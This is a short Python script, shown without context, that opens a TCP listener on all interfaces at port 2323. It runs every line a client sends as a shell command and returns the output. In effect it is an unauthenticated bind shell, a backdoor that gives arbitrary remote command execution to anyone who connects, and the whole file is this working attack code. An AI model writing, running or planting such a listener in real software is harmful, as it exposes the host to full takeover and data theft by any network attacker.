import socketserver


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        import subprocess

        for line in self.rfile:
            self.wfile.write(subprocess.run(line.decode(), shell=True, capture_output=True).stdout)


socketserver.TCPServer(("0.0.0.0", 2323), Handler).serve_forever()
